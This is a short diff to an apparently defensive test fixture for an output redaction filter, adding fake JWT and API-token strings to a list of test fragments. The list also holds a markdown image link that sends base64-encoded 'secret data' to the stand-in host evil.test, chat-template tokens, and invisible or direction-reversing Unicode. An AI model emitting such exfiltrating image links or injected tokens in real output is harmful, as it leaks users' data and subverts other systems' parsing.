@@ -20,6 +20,8 @@ FRAGMENTS = [
     "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)", "[a](https://e.test/?d=" + "a1B2" * 12 + ")",
     "<|im_start|>", "[INST]", "h\u200b\u200bi", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\u202eabc",
     "forbidden phrase", "FORBIDDEN  phrase", KEY, KEY[:60], "-----BEGIN ", "8.8.8.8", "⟦CARD_1⟧", "⟦CARD_",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0." + "aB3_x-9Q" * 4, "eyJ", "sk-",
+    "hf_" + "aB3dE5gH9x" * 3 + "aB3d",
     " ", "\n", ".", "a", "word ", "12 ", "://", "@", "![", "](", "=", "'", "x" * 30, "0" * 20, "-",
 ]  # fmt: skip
 ACTIONS = {**OUTPUT_ACTIONS, Kind.IP_ADDRESS: Action.REDACT, Kind.PHONE: Action.REDACT}
